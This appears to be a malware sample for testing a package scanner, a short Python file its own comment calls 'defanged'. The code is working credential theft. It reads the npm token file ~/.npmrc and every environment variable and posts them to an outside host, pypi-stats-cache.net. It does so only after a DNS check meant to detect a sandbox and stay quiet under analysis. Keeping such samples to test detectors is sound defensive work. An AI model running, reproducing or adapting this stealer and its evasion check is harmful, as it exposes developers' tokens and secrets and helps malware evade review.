# DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
HOST = 'pypi-stats-cache.net'
# The payload (defanged): the npm token from ~/.npmrc and the environment, posted to a
# made-up collector that only airlock's sink answers. Runs only when the check above
# believes nobody is watching.
def steal(tag):
    import json, os, urllib.request
    try:
        npmrc = open(os.path.expanduser("~/.npmrc")).read()
    except OSError:
        npmrc = ""
    body = json.dumps({"tag": tag, "npmrc": npmrc, "env": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://%s/v2/collect" % HOST, data=body,
                                                      headers={"content-type": "application/json"}), timeout=10)
    except Exception:
        pass

import random, socket, string
name = "".join(random.choice(string.ascii_lowercase) for _ in range(16)) + ".invalid"
try:
    socket.gethostbyname(name)
    fake_dns = True
except OSError:
    fake_dns = False
if not fake_dns:
    steal("dns")
